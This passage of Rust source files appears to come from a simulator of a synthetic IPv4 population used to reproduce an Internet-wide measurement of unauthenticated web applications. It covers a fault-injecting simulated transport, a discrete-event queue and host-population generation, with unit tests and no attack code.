            stats: Arc::new(TransportStats::default()),
            scanner_ip: Ipv4Addr::new(198, 51, 100, 77),
            faults: FaultPlan::disabled(),
        }
    }

    /// Enable transient faults with the given per-attempt probability
    /// (smoltcp-style fault injection; exercises the pipeline's
    /// resilience to flaky networks). Faults fire on both SYN probes
    /// (dropped answer → `Filtered`) and connects (timeout). Starts a
    /// fresh schedule, so call during setup — and before
    /// [`with_fault_observer`](Self::with_fault_observer).
    pub fn with_fault_injection(self, rate: f64) -> Self {
        let seed = self.faults.seed();
        self.with_fault_plan(FaultPlan::new(rate, seed))
    }

    /// Re-key the fault stream. Starts a fresh schedule, keeping the
    /// configured rate.
    pub fn with_fault_seed(self, seed: u64) -> Self {
        let rate = self.faults.rate();
        self.with_fault_plan(FaultPlan::new(rate, seed))
    }

    /// Replace the whole fault schedule.
    pub fn with_fault_plan(mut self, plan: FaultPlan) -> Self {
        self.faults = plan;
        self
    }

    /// Observe every injected fault — used to bridge fault counts into
    /// a telemetry registry this crate cannot depend on.
    pub fn with_fault_observer(
        mut self,
        observer: impl Fn(FaultLane) + Send + Sync + 'static,
    ) -> Self {
        self.faults = self.faults.clone().with_observer(observer);
        self
    }

    /// Injected-fault counts (shared across clones).
    pub fn fault_stats(&self) -> &FaultStats {
        self.faults.stats()
    }

    /// Set the virtual time at which the universe is observed.
    pub fn set_time(&self, t: SimTime) {
        *self.now.write() = t;
    }

    /// Current virtual observation time.
    pub fn time(&self) -> SimTime {
        *self.now.read()
    }

    /// Set the source address presented to hosts.
    pub fn with_source_ip(mut self, ip: Ipv4Addr) -> Self {
        self.scanner_ip = ip;
        self
    }

    /// Operation counters.
    pub fn stats(&self) -> &TransportStats {
        &self.stats
    }

    /// The universe behind this transport.
    pub fn universe(&self) -> &Arc<Universe> {
        &self.universe
    }
}

impl Transport for SimTransport {
    type Conn = SimConn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        self.stats.probes.fetch_add(1, Ordering::Relaxed);
        let outcome = self.universe.probe(ep, self.time());
        if outcome == ProbeOutcome::Closed {
            // An RST is a definite answer: fault lanes model *lost*
            // answers, and a closed port stays closed on every attempt,
            // so no fault draw happens (and no retry would follow). This
            // is what lets the sparse sweep answer `Closed` for empty
            // addresses without consuming any fault ordinals.
            return outcome;
        }
        if self.faults.fires(FaultLane::Probe, ep) {
            // Injected SYN loss: the probe goes unanswered.
            return ProbeOutcome::Filtered;
        }
        outcome
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        let populated = self.universe.populated_in(block);
        let mut probed = Vec::with_capacity(populated.len() * ports.len());
        for &ip in populated {
            for &port in ports {
                let ep = Endpoint::new(Ipv4Addr::from(ip), port);
                probed.push((ep, self.probe(ep).await));
            }
        }
        // Every unpopulated address answers `Closed` on every port; see
        // `probe` above for why no fault draws are owed for them.
        let empty_addresses = block.size() - populated.len() as u64;
        BlockSweepResult {
            probed,
            addresses_probed: block.size(),
            bulk_closed: empty_addresses * ports.len() as u64,
        }
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> Result<SimConn> {
        self.stats.connects.fetch_add(1, Ordering::Relaxed);
        if self.faults.fires(FaultLane::Connect, ep) {
            return Err(nokeys_http::Error::Timeout);
        }
        let at = self.time();
        let behavior = self.universe.connect_behavior(ep, scheme, at)?;
        let cert = if scheme == Scheme::Https {
            self.universe
                .host(ep.ip)
                .and_then(|h| h.cert_domain.clone())
                .map(|subject| CertificateInfo {
                    subject: Some(subject),
                })
        } else {
            None
        };
        Ok(SimConn {
            universe: Arc::clone(&self.universe),
            stats: Arc::clone(&self.stats),
            ep,
            at,
            peer: self.scanner_ip,
            behavior,
            write_buf: BytesMut::new(),
            read_buf: BytesMut::new(),
            scanner: HeadScanner::new(),
            banner_sent: false,
            cert,
        })
    }
}

/// A simulated connection. All operations complete immediately; reads
/// return EOF once no more simulated bytes are pending (the server always
/// behaves as `Connection: close`).
pub struct SimConn {
    universe: Arc<Universe>,
    stats: Arc<TransportStats>,
    ep: Endpoint,
    at: SimTime,
    peer: Ipv4Addr,
    behavior: ConnectBehavior,
    write_buf: BytesMut,
    read_buf: BytesMut,
    scanner: HeadScanner,
    banner_sent: bool,
    cert: Option<CertificateInfo>,
}

impl SimConn {
    /// Try to parse complete requests out of the write buffer and produce
    /// responses into the read buffer.
    fn pump(&mut self) {
        if self.behavior != ConnectBehavior::Http {
            return;
        }
        loop {
            match parse_request_incremental(&self.write_buf, &Limits::default(), &mut self.scanner)
            {
                Ok(Parsed::Complete(req, used)) => {
                    self.write_buf.advance(used);
                    self.scanner.reset();
                    self.stats.requests.fetch_add(1, Ordering::Relaxed);
                    let resp = self.universe.respond(self.ep, &req, self.peer, self.at);
                    self.read_buf
                        .extend_from_slice(&nokeys_http::encode::encode_response(&resp));
                }
                Ok(Parsed::Partial) => break,
                Err(_) => {
                    // A malformed request ends the simulated connection.
                    self.write_buf.clear();
                    self.scanner.reset();
                    break;
                }
            }
        }
    }
}

impl AsyncWrite for SimConn {
    fn poll_write(
        mut self: Pin<&mut Self>,
        _cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        self.write_buf.extend_from_slice(buf);
        self.pump();
        Poll::Ready(Ok(buf.len()))
    }

    fn poll_flush(self: Pin<&mut Self>, _cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Poll::Ready(Ok(()))
    }

    fn poll_shutdown(self: Pin<&mut Self>, _cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Poll::Ready(Ok(()))
    }
}

impl AsyncRead for SimConn {
    fn poll_read(
        mut self: Pin<&mut Self>,
        _cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        if let ConnectBehavior::Garbage(banner) = self.behavior {
            if !self.banner_sent {
                self.banner_sent = true;
                self.read_buf.extend_from_slice(banner);
            }
        }
        if self.read_buf.is_empty() {
            // Nothing pending: the simulated server closes. (Silent
            // services land here immediately.)
            return Poll::Ready(Ok(()));
        }
        let n = self.read_buf.len().min(buf.remaining());
        buf.put_slice(&self.read_buf[..n]);
        self.read_buf.advance(n);
        Poll::Ready(Ok(()))
    }
}

impl Connection for SimConn {
    fn certificate(&self) -> Option<CertificateInfo> {
        self.cert.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::universe::UniverseConfig;
    use nokeys_apps::AppId;
    use nokeys_http::{Client, Url};

    fn transport() -> SimTransport {
        SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(42))))
    }

    fn find_app_ep(t: &SimTransport, app: AppId, vulnerable: bool) -> Endpoint {
        let host = t
            .universe()
            .hosts()
            .find(|h| {
                h.awe().map(|(_, a)| a) == Some(app)
                    && h.is_vulnerable_at_deploy() == vulnerable
                    && h.services[0].schemes.supports_http()
            })
            .unwrap_or_else(|| panic!("no {app} host with vulnerable={vulnerable}"));
        Endpoint::new(host.ip, host.services[0].port)
    }

    #[tokio::test]
    async fn client_fetches_from_simulated_hadoop() {
        let t = transport();
        let ep = find_app_ep(&t, AppId::Hadoop, true);
        let client = Client::new(t.clone());
        let fetched = client
            .get(&Url::for_ip(
                Scheme::Http,
                ep.ip,
                ep.port,
                "/cluster/cluster",
            ))
            .await
            .unwrap();
        assert!(fetched.response.body_text().contains("dr.who"));
        assert!(t.stats().requests() >= 1);
        assert!(t.stats().connects() >= 1);
    }

    #[tokio::test]
    async fn redirects_work_through_the_simulation() {
        let t = transport();
        let ep = find_app_ep(&t, AppId::WordPress, true);
        let client = Client::new(t.clone());
        // CMS hosts expose port 80 for HTTP.
        let fetched = client
            .get(&Url::for_ip(Scheme::Http, ep.ip, 80, "/"))
            .await
            .unwrap();
        assert!(
            fetched.redirects >= 1,
            "fresh WordPress redirects to the installer"
        );
        assert!(fetched.response.body_text().contains("id=\"setup\""));
    }

    #[tokio::test]
    async fn probe_counts_and_results() {
        let t = transport();
        let ep = find_app_ep(&t, AppId::Gocd, true);
        assert_eq!(t.probe(ep).await, ProbeOutcome::Open);
        assert_eq!(
            t.probe(Endpoint::new(ep.ip, 9999)).await,
            ProbeOutcome::Closed
        );
        assert_eq!(t.stats().probes(), 2);
    }

    #[tokio::test]
    async fn garbage_services_fail_http_parsing() {
        let t = transport();
        let host_ip = t
            .universe()
            .hosts()
            .find(|h| {
                matches!(
                    h.services.first().map(|s| &s.kind),
                    Some(crate::host::ServiceKind::Background(
                        nokeys_apps::background::BackgroundKind::NotHttp
                    ))
                )
            })
            .map(|h| (h.ip, h.services[0].port));
        let Some((ip, port)) = host_ip else { return };
        let client = Client::new(t.clone());
        let err = client
            .get(&Url::for_ip(Scheme::Http, ip, port, "/"))
            .await
            .unwrap_err();
        assert!(
            matches!(
                err,
                nokeys_http::Error::Malformed(_) | nokeys_http::Error::UnexpectedEof
            ),
            "{err:?}"
        );
    }

    #[tokio::test]
    async fn https_exposes_certificates() {
        let t = transport();
        let host = t
            .universe()
            .hosts()
            .find(|h| h.cert_domain.is_some() && h.service_on(443).is_some())
            .map(|h| h.ip);
        let Some(ip) = host else { return };
        let conn = t
            .connect(Endpoint::new(ip, 443), Scheme::Https)
            .await
            .unwrap();
        let cert = conn.certificate().expect("cert present");
        assert!(cert.subject.unwrap().contains("example"));
    }

    #[tokio::test]
    async fn time_travel_changes_responses() {
        let t = transport();
        // Find a host that goes offline during the window.
        let end = SimTime::SCAN_START + SimTime::OBSERVATION;
        let gone = t
            .universe()
            .vulnerable_hosts()
            .find(|h| h.lifecycle.state_at(end) == crate::lifecycle::HostState::Offline)
            .map(|h| Endpoint::new(h.ip, h.services[0].port));
        let Some(ep) = gone else { return };
        assert_eq!(t.probe(ep).await, ProbeOutcome::Open);
        t.set_time(end);
        assert_eq!(t.probe(ep).await, ProbeOutcome::Filtered);
        assert!(t.connect(ep, Scheme::Http).await.is_err());
    }

    #[tokio::test]
    async fn probes_can_fault_too() {
        let t = transport().with_fault_injection(1.0);
        let ep = find_app_ep(&t, AppId::Hadoop, true);
        assert_eq!(t.probe(ep).await, ProbeOutcome::Filtered);
        assert_eq!(t.fault_stats().probe_injected(), 1);
        // A fault-free transport sees the same endpoint open.
        assert_eq!(transport().probe(ep).await, ProbeOutcome::Open);
    }

    /// Forwards probes/connects but keeps the trait's dense
    /// `sweep_block` default, to pit the sparse override against.
    struct DenseOnly(SimTransport);

    impl Transport for DenseOnly {
        type Conn = SimConn;

        async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
            self.0.probe(ep).await
        }

        async fn connect(&self, ep: Endpoint, scheme: Scheme) -> Result<SimConn> {
            self.0.connect(ep, scheme).await
        }
    }

    fn populated_block(t: &SimTransport) -> Cidr {
        t.universe()
            .config()
            .space
            .slash24_blocks()
            .find(|b| t.universe().populated_in(*b).len() >= 2)
            .expect("tiny universe has a block with hosts")
    }

    #[tokio::test]
    async fn sparse_sweep_matches_the_dense_default() {
        let ports = [80u16, 443, 8080];
        let sparse_t = transport();
        let dense_t = DenseOnly(transport());
        let block = populated_block(&sparse_t);

        let sparse = sparse_t.sweep_block(block, &ports).await;
        let dense = dense_t.sweep_block(block, &ports).await;

        assert_eq!(sparse.addresses_probed, dense.addresses_probed);
        assert_eq!(sparse.probes_sent(), dense.probes_sent());
        assert_eq!(
            sparse.open().collect::<Vec<_>>(),
            dense.open().collect::<Vec<_>>(),
            "discovery order must match the dense loop"
        );
        // Sparse evaluated only populated endpoints...
        let populated = sparse_t.universe().populated_in(block).len();
        assert_eq!(sparse.probed.len(), populated * ports.len());
        assert_eq!(sparse_t.stats().probes(), (populated * ports.len()) as u64);
        // ...while dense paid for the whole block.
        assert_eq!(dense.probed.len() as u64, block.size() * ports.len() as u64);
        // Every probe sparse skipped was Closed in the dense sweep.
        let evaluated: std::collections::HashMap<Endpoint, ProbeOutcome> =
            sparse.probed.iter().copied().collect();
        for (ep, outcome) in &dense.probed {
            match evaluated.get(ep) {
                Some(sparse_outcome) => assert_eq!(sparse_outcome, outcome, "{ep}"),
                None => assert_eq!(*outcome, ProbeOutcome::Closed, "{ep}"),
            }
        }
    }

    #[tokio::test]
    async fn faulty_sweeps_match_the_dense_loop_draw_for_draw() {
        let mk = || transport().with_fault_injection(0.3).with_fault_seed(11);
        let ports = [80u16, 443];
        let sparse_t = mk();
        let dense_t = DenseOnly(mk());
        let block = populated_block(&sparse_t);

        let sparse = sparse_t.sweep_block(block, &ports).await;
        let dense = dense_t.sweep_block(block, &ports).await;

        assert_eq!(sparse.probes_sent(), dense.probes_sent());
        assert_eq!(
            sparse.open().collect::<Vec<_>>(),
            dense.open().collect::<Vec<_>>()
        );
        let evaluated: std::collections::HashMap<Endpoint, ProbeOutcome> =
            sparse.probed.iter().copied().collect();
        for (ep, outcome) in &dense.probed {
            match evaluated.get(ep) {
                Some(sparse_outcome) => assert_eq!(sparse_outcome, outcome, "{ep}"),
                None => assert_eq!(*outcome, ProbeOutcome::Closed, "{ep}"),
            }
        }
        assert_eq!(
            sparse_t.fault_stats().probe_injected(),
            dense_t.0.fault_stats().probe_injected(),
            "sparse and dense must consume identical fault schedules"
        );
    }

    #[tokio::test]
    async fn empty_addresses_are_closed_under_every_fault_lane() {
        let t = transport().with_fault_injection(1.0);
        let empty_ip = t
            .universe()
            .config()
            .space
            .addresses()
            .find(|ip| t.universe().host(*ip).is_none())
            .expect("tiny universe is sparse");
        let ep = Endpoint::new(empty_ip, 80);
        // Probe lane at rate 1.0: still a definite RST, no fault drawn.
        for _ in 0..4 {
            assert_eq!(t.probe(ep).await, ProbeOutcome::Closed);
        }
        assert_eq!(t.fault_stats().probe_injected(), 0);
        // The standalone wrapper obeys the same invariant.
        let wrapped = crate::fault::FaultyTransport::new(transport(), FaultPlan::new(1.0, 9));
        assert_eq!(wrapped.probe(ep).await, ProbeOutcome::Closed);
        assert_eq!(wrapped.plan().stats().probe_injected(), 0);
    }

    #[tokio::test]
    async fn fault_schedule_is_independent_of_endpoint_interleaving() {
        async fn timed_out(t: &SimTransport, ep: Endpoint) -> bool {
            matches!(
                t.connect(ep, Scheme::Http).await,
                Err(nokeys_http::Error::Timeout)
            )
        }

        let t1 = transport().with_fault_injection(0.5).with_fault_seed(7);
        let t2 = transport().with_fault_injection(0.5).with_fault_seed(7);
        let a = find_app_ep(&t1, AppId::Hadoop, true);
        let b = find_app_ep(&t1, AppId::WordPress, true);

        // t1 interleaves a/b; t2 visits b first, then all of a. The
        // per-endpoint timeout sequences must match regardless.
        let mut a1 = Vec::new();
        let mut b1 = Vec::new();
        for _ in 0..16 {
            a1.push(timed_out(&t1, a).await);
            b1.push(timed_out(&t1, b).await);
        }
        let mut b2 = Vec::new();
        for _ in 0..16 {
            b2.push(timed_out(&t2, b).await);
        }
        let mut a2 = Vec::new();
        for _ in 0..16 {
            a2.push(timed_out(&t2, a).await);
        }
        assert_eq!(a1, a2);
        assert_eq!(b1, b2);
        assert!(a1.contains(&true) && a1.contains(&false), "{a1:?}");
    }
}
