//! A deterministic discrete-event queue.
//!
//! Ties on the timestamp are broken by insertion order, so simulations
//! that schedule events in a deterministic order replay identically.

use crate::clock::SimTime;
use std::cmp::Reverse;
use std::collections::BinaryHeap;

/// A time-ordered queue of events of type `E`.
#[derive(Debug)]
pub struct EventQueue<E> {
    heap: BinaryHeap<Entry<E>>,
    seq: u64,
}

#[derive(Debug)]
struct Entry<E> {
    key: Reverse<(SimTime, u64)>,
    event: E,
}

impl<E> PartialEq for Entry<E> {
    fn eq(&self, other: &Self) -> bool {
        self.key == other.key
    }
}
impl<E> Eq for Entry<E> {}
impl<E> PartialOrd for Entry<E> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl<E> Ord for Entry<E> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.key.cmp(&other.key)
    }
}

impl<E> Default for EventQueue<E> {
    fn default() -> Self {
        Self::new()
    }
}

impl<E> EventQueue<E> {
    pub fn new() -> Self {
        EventQueue {
            heap: BinaryHeap::new(),
            seq: 0,
        }
    }

    /// Schedule `event` at `time`.
    pub fn schedule(&mut self, time: SimTime, event: E) {
        let seq = self.seq;
        self.seq += 1;
        self.heap.push(Entry {
            key: Reverse((time, seq)),
            event,
        });
    }

    /// Pop the earliest event, if any.
    pub fn pop(&mut self) -> Option<(SimTime, E)> {
        self.heap.pop().map(|e| (e.key.0 .0, e.event))
    }

    /// Time of the earliest pending event.
    pub fn peek_time(&self) -> Option<SimTime> {
        self.heap.peek().map(|e| e.key.0 .0)
    }

    /// Number of pending events.
    pub fn len(&self) -> usize {
        self.heap.len()
    }

    pub fn is_empty(&self) -> bool {
        self.heap.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clock::SimDuration;

    #[test]
    fn pops_in_time_order() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(30), "c");
        q.schedule(SimTime(10), "a");
        q.schedule(SimTime(20), "b");
        let order: Vec<_> = std::iter::from_fn(|| q.pop()).map(|(_, e)| e).collect();
        assert_eq!(order, vec!["a", "b", "c"]);
    }

    #[test]
    fn ties_break_by_insertion_order() {
        let mut q = EventQueue::new();
        for label in ["first", "second", "third"] {
            q.schedule(SimTime(5), label);
        }
        let order: Vec<_> = std::iter::from_fn(|| q.pop()).map(|(_, e)| e).collect();
        assert_eq!(order, vec!["first", "second", "third"]);
    }

    #[test]
    fn peek_does_not_consume() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::SCAN_START + SimDuration::hours(1), ());
        assert_eq!(q.peek_time(), Some(SimTime(3600)));
        assert_eq!(q.len(), 1);
        assert!(!q.is_empty());
        q.pop();
        assert!(q.is_empty());
        assert_eq!(q.peek_time(), None);
    }

    #[test]
    fn interleaved_schedule_and_pop_stays_ordered() {
        let mut q = EventQueue::new();
        q.schedule(SimTime(10), 1);
        q.schedule(SimTime(5), 0);
        assert_eq!(q.pop(), Some((SimTime(5), 0)));
        q.schedule(SimTime(7), 2);
        assert_eq!(q.pop(), Some((SimTime(7), 2)));
        assert_eq!(q.pop(), Some((SimTime(10), 1)));
    }
}
