//! The synthetic IPv4 universe: population generation and request
//! dispatch.

use crate::calibration::{APP_POPULATIONS, PORT_POPULATIONS};
use crate::clock::SimTime;
use crate::geo::{pick_weighted, GeoDb, GeoRecord, HOSTING_MIX};
use crate::host::{Host, SchemeSupport, Service, ServiceKind};
use crate::ip::Cidr;
use crate::lifecycle::{HostState, LifecycleParams, LifecyclePlan};
use nokeys_apps::background::BackgroundKind;
use nokeys_apps::catalog::DefaultPosture;
use nokeys_apps::{build_instance, AppConfig, AppId, Category};
use nokeys_http::{Endpoint, ProbeOutcome, Request, Response, Scheme};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Universe generation parameters.
///
/// Serializable so a coordinator can ship the config to worker processes,
/// which regenerate the identical universe from the seed.
#[derive(Debug, Clone, serde::Serialize, serde::Deserialize)]
pub struct UniverseConfig {
    /// Master seed; everything derives from it.
    pub seed: u64,
    /// Address block hosts are placed in (must be large enough).
    pub space: Cidr,
    /// Divisor applied to Table 3's *benign* (non-MAV) host counts.
    pub benign_divisor: u64,
    /// Divisor applied to Table 3's MAV counts (1 = paper scale).
    pub mav_divisor: u64,
    /// Divisor applied to Table 2's background port populations
    /// (0 disables background noise entirely).
    pub background_divisor: u64,
    /// Number of "all ports open" artifact hosts (paper: 3.0M, excluded
    /// from its results).
    pub tarpit_hosts: u64,
    /// Shared-hosting machines serving name-based virtual hosts
    /// (§6.2 "Under counting": invisible to an IP-based scan).
    pub shared_hosts: u64,
    /// Virtual hosts per shared machine.
    pub vhosts_per_host: u64,
}

impl UniverseConfig {
    /// Full-shape reproduction: MAV population at paper scale (4,221
    /// hosts), benign AWE population at 1:100, background noise at
    /// 1:2000, inside a /12 (~1M addresses).
    pub fn repro(seed: u64) -> Self {
        UniverseConfig {
            seed,
            space: "20.0.0.0/12".parse().expect("static CIDR"),
            benign_divisor: 100,
            mav_divisor: 1,
            background_divisor: 2000,
            tarpit_hosts: 1500,
            shared_hosts: 150,
            vhosts_per_host: 8,
        }
    }

    /// Small universe for unit/integration tests (~a few hundred hosts
    /// in a /16).
    pub fn tiny(seed: u64) -> Self {
        UniverseConfig {
            seed,
            space: "20.0.0.0/16".parse().expect("static CIDR"),
            benign_divisor: 20_000,
            mav_divisor: 50,
            background_divisor: 500_000,
            tarpit_hosts: 5,
            shared_hosts: 6,
            vhosts_per_host: 4,
        }
    }
}

/// What a connection attempt yields at the message level.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConnectBehavior {
    /// Normal HTTP service.
    Http,
    /// Accepts the connection but answers with a non-HTTP banner.
    Garbage(&'static [u8]),
    /// Accepts the connection and closes without sending anything.
    Silent,
}

/// The generated universe.
pub struct Universe {
    config: UniverseConfig,
    hosts: HashMap<u32, Host>,
    /// Populated addresses in ascending order — the sparse sweep's range
    /// index. Built once at generation time; the host map never changes
    /// afterwards (lifecycle events mutate hosts in place).
    sorted_ips: Vec<u32>,
    geo: GeoDb,
}

impl Universe {
    /// Generate the population from `config`. Deterministic in
    /// `config.seed`.
    pub fn generate(config: UniverseConfig) -> Universe {
        let mut rng = SmallRng::seed_from_u64(config.seed);
        let mut hosts: HashMap<u32, Host> = HashMap::new();
        let mut geo = GeoDb::new();

        let alloc_ip = |rng: &mut SmallRng, hosts: &HashMap<u32, Host>| -> Ipv4Addr {
            loop {
                let offset = rng.random_range(0..config.space.size()) as u32;
                let ip = config.space.base + offset;
                if !hosts.contains_key(&ip) {
                    return Ipv4Addr::from(ip);
                }
            }
        };

        // --- AWE hosts (Table 3 populations) ---
        for pop in &APP_POPULATIONS {
            let n_vuln = scale(pop.mavs, config.mav_divisor);
            let n_secure = scale(pop.hosts - pop.mavs, config.benign_divisor);
            for vulnerable in
                std::iter::repeat_n(true, n_vuln).chain(std::iter::repeat_n(false, n_secure))
            {
                let ip = alloc_ip(&mut rng, &hosts);
                let host = make_awe_host(&mut rng, ip, pop.app, vulnerable);
                let draw = rng.random::<u32>();
                let (country, asys) = pick_weighted(HOSTING_MIX, draw);
                geo.insert(ip, GeoRecord { country, asys });
                hosts.insert(u32::from(ip), host);
            }
        }

        // --- Background noise (Table 2 populations) ---
        if config.background_divisor > 0 {
            for port_pop in &PORT_POPULATIONS {
                let n_open = scale(port_pop.open, config.background_divisor);
                let n_http = scale(port_pop.http, config.background_divisor);
                let n_https = scale(port_pop.https, config.background_divisor);
                let n_both = (n_http + n_https)
                    .saturating_sub(n_open)
                    .min(n_http.min(n_https));
                let n_http_only = n_http - n_both;
                let n_https_only = n_https - n_both;
                let n_silent = n_open.saturating_sub(n_http_only + n_https_only + n_both);

                let mut specs = Vec::with_capacity(n_open);
                specs.extend(std::iter::repeat_n(SchemeSupport::Both, n_both));
                specs.extend(std::iter::repeat_n(SchemeSupport::HttpOnly, n_http_only));
                specs.extend(std::iter::repeat_n(SchemeSupport::HttpsOnly, n_https_only));
                for schemes in specs {
                    let ip = alloc_ip(&mut rng, &hosts);
                    let kind = background_kind(&mut rng);
                    let mut host = Host::new(
                        ip,
                        vec![Service {
                            port: port_pop.port,
                            kind: ServiceKind::Background(kind),
                            schemes,
                        }],
                    );
                    if schemes.supports_https() && rng.random::<f64>() < 0.5 {
                        host.cert_domain = Some(format!("host-{}.example.net", u32::from(ip)));
                    }
                    hosts.insert(u32::from(ip), host);
                }
                for _ in 0..n_silent {
                    let ip = alloc_ip(&mut rng, &hosts);
                    let host = Host::new(
                        ip,
                        vec![Service {
                            port: port_pop.port,
                            kind: ServiceKind::Background(BackgroundKind::NotHttp),
                            schemes: SchemeSupport::Both,
                        }],
                    );
                    hosts.insert(u32::from(ip), host);
                }
            }
        }

        // --- Shared hosting (name-based virtual hosts, §6.2) ---
        for _ in 0..config.shared_hosts {
            let ip = alloc_ip(&mut rng, &hosts);
            let host = make_shared_host(&mut rng, ip, config.vhosts_per_host);
            hosts.insert(u32::from(ip), host);
        }

        // --- Tarpits ("all ports open" artifacts) ---
        for _ in 0..config.tarpit_hosts {
            let ip = alloc_ip(&mut rng, &hosts);
            let mut host = Host::new(ip, Vec::new());
            host.tarpit = true;
            hosts.insert(u32::from(ip), host);
        }

        let mut sorted_ips: Vec<u32> = hosts.keys().copied().collect();
        sorted_ips.sort_unstable();

        Universe {
            config,
            hosts,
            sorted_ips,
            geo,
        }
    }

    /// Generation parameters.
    pub fn config(&self) -> &UniverseConfig {
        &self.config
    }

    /// Geo metadata service.
    pub fn geo(&self) -> &GeoDb {
        &self.geo
    }

    /// All hosts (iteration order is unspecified).
    pub fn hosts(&self) -> impl Iterator<Item = &Host> {
        self.hosts.values()
    }

    /// Number of hosts.
    pub fn host_count(&self) -> usize {
        self.hosts.len()
    }

    /// The host at `ip`.
    pub fn host(&self, ip: Ipv4Addr) -> Option<&Host> {
        self.hosts.get(&u32::from(ip))
    }

    /// Populated addresses inside `block`, ascending. A binary-search
    /// range query over the sorted index — the sparse sweep uses this to
    /// visit only real hosts and answer for the empty remainder
    /// arithmetically.
    pub fn populated_in(&self, block: Cidr) -> &[u32] {
        let first = block.base;
        let last = u32::from(block.last());
        let lo = self.sorted_ips.partition_point(|&ip| ip < first);
        let hi = self.sorted_ips.partition_point(|&ip| ip <= last);
        &self.sorted_ips[lo..hi]
    }

    /// Hosts whose AWE is vulnerable at deployment time.
    pub fn vulnerable_hosts(&self) -> impl Iterator<Item = &Host> {
        self.hosts().filter(|h| h.is_vulnerable_at_deploy())
    }

    /// SYN-probe `ep` at virtual time `at`.
    pub fn probe(&self, ep: Endpoint, at: SimTime) -> ProbeOutcome {
        let Some(host) = self.hosts.get(&u32::from(ep.ip)) else {
            return ProbeOutcome::Closed;
        };
        if host.lifecycle.state_at(at) == HostState::Offline {
            // Firewalled / shut down: drops, not RSTs.
            return ProbeOutcome::Filtered;
        }
        if host.tarpit {
            return ProbeOutcome::Open;
        }
        match host.service_on(ep.port) {
            Some(_) => ProbeOutcome::Open,
            None => ProbeOutcome::Closed,
        }
    }

    /// Determine connection-level behaviour (used by the transport).
    pub fn connect_behavior(
        &self,
        ep: Endpoint,
        scheme: Scheme,
        at: SimTime,
    ) -> Result<ConnectBehavior, nokeys_http::Error> {
        let Some(host) = self.hosts.get(&u32::from(ep.ip)) else {
            return Err(nokeys_http::Error::Connect("connection refused".into()));
        };
        if host.lifecycle.state_at(at) == HostState::Offline {
            return Err(nokeys_http::Error::Timeout);
        }
        if host.tarpit {
            return Ok(ConnectBehavior::Silent);
        }
        let Some(service) = host.service_on(ep.port) else {
            return Err(nokeys_http::Error::Connect("connection refused".into()));
        };
        let supported = match scheme {
            Scheme::Http => service.schemes.supports_http(),
            Scheme::Https => service.schemes.supports_https(),
        };
        if !supported {
            // Wrong scheme: the TLS handshake fails / plain HTTP gets a
            // TLS alert. Either way the client sees a connect error.
            return Err(nokeys_http::Error::Connect("handshake failed".into()));
        }
        match &service.kind {
            ServiceKind::Background(BackgroundKind::NotHttp) => Ok(ConnectBehavior::Garbage(
                b"SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.2\r\n",
            )),
            _ => Ok(ConnectBehavior::Http),
        }
    }

    /// Serve one request against `ep` at time `at`.
    ///
    /// Instances are materialized per request: the Internet-wide scan only
    /// issues safe `GET`s, so state changes never need to persist here
    /// (honeypots, which do need persistent state, own their instances —
    /// see `nokeys-honeypot`).
    pub fn respond(&self, ep: Endpoint, req: &Request, peer: Ipv4Addr, at: SimTime) -> Response {
        let Some(host) = self.hosts.get(&u32::from(ep.ip)) else {
            return Response::new(nokeys_http::StatusCode::SERVICE_UNAVAILABLE);
        };
        // Name-based virtual-host dispatch: a matching `Host` header on
        // port 80/443 selects the named site instead of the default one.
        if !host.vhosts.is_empty() && (ep.port == 80 || ep.port == 443) {
            if let Some(requested) = req.headers.get("host") {
                let name = requested.split(':').next().unwrap_or(requested);
                if let Some(vhost) = host.vhosts.iter().find(|v| v.domain == name) {
                    return self.respond_vhost(vhost, req, peer, at);
                }
            }
        }
        let Some(service) = host.service_on(ep.port) else {
            return Response::new(nokeys_http::StatusCode::SERVICE_UNAVAILABLE);
        };
        match &service.kind {
            ServiceKind::Background(kind) => kind.handle(req, peer),
            ServiceKind::Awe {
                app,
                version_index,
                config,
            } => {
                let state = host.lifecycle.state_at(at);
                let mut version_index = *version_index;
                if host.lifecycle.updated_by(at) {
                    version_index = nokeys_apps::release_history(*app).len() - 1;
                }
                let version = nokeys_apps::version_at(*app, version_index);
                let config = if state == HostState::Fixed {
                    AppConfig::secure_for(*app, &version)
                } else {
                    *config
                };
                let mut instance = build_instance(*app, version, config);
                instance.handle(req, peer).response
            }
        }
    }

    /// Serve a request for a named virtual host.
    fn respond_vhost(
        &self,
        vhost: &crate::vhost::VirtualHost,
        req: &Request,
        peer: Ipv4Addr,
        at: SimTime,
    ) -> Response {
        use crate::vhost::VhostState;
        let version = nokeys_apps::version_at(vhost.app, vhost.version_index);
        match vhost.state_at(at) {
            VhostState::NotRegistered => Response::not_found(),
            VhostState::PreInstall => {
                let config = AppConfig::vulnerable_for(vhost.app, &version);
                let mut instance = build_instance(vhost.app, version, config);
                instance.handle(req, peer).response
            }
            VhostState::Installed => {
                let config = AppConfig::secure_for(vhost.app, &version);
                let mut instance = build_instance(vhost.app, version, config);
                instance.handle(req, peer).response
            }
        }
    }

    /// The Certificate-Transparency log: one entry per virtual host,
    /// published when the certificate is issued at registration.
    pub fn ct_log(&self) -> Vec<crate::vhost::CtEntry> {
        let mut entries: Vec<crate::vhost::CtEntry> = self
            .hosts
            .values()
            .flat_map(|h| {
